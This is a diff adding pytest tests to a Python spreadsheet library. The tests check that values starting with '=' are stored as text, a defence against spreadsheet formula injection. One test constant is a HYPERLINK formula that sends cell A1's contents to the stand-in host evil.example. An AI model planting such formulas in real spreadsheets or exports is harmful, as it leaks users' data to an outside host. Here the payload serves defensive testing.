@@ -8,6 +8,7 @@ from quanyu.core.spreadsheets import (
     Column,
     RowError,
     SpreadsheetError,
+    append_row,
     read_errors,
     read_rows,
     sheet_names,
@@ -250,3 +251,25 @@ def test_csv_streamed_utf8_and_gbk(tmp_path):
     gbk = tmp_path / "g.csv"
     gbk.write_bytes("甲,乙\n北京,上海\n".encode("gbk"))
     assert list(read_rows(gbk, columns)) == [(2, {"a": "北京", "b": "上海"})]
+
+
+INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+
+
+def test_text_starting_with_equals_is_written_as_text_not_a_formula(tmp_path):
+    """Formula injection: a name typed as "=HYPERLINK(…)" must reach the office's spreadsheet as
+    text; numbers stay numbers; our own import reads the text back unchanged."""
+    path = tmp_path / "out.xlsx"
+    write_rows(path, COLUMNS, [{"name": INJECTED, "code": "+1-2", "population": 8500}])
+    cells = next(load_workbook(path).active.iter_rows(min_row=2))
+    assert [(c.value, c.data_type) for c in cells] == [(INJECTED, "s"), ("+1-2", "s"), (8500, "n")]
+    assert [r["name"] for _n, r in read_rows(path, COLUMNS)] == [INJECTED]
+    errors = tmp_path / "errors.xlsx"
+    write_errors(errors, [RowError(2, "名称", INJECTED)])
+    assert {c.data_type for c in next(load_workbook(errors).active.iter_rows(min_row=2))} <= {"s", "n"}
+
+
+def test_append_row_on_an_ordinary_sheet():
+    book = Workbook()
+    append_row(book.active, ["=1+1", 2])
+    assert [(c.value, c.data_type) for c in book.active[1]] == [("=1+1", "s"), (2, "n")]
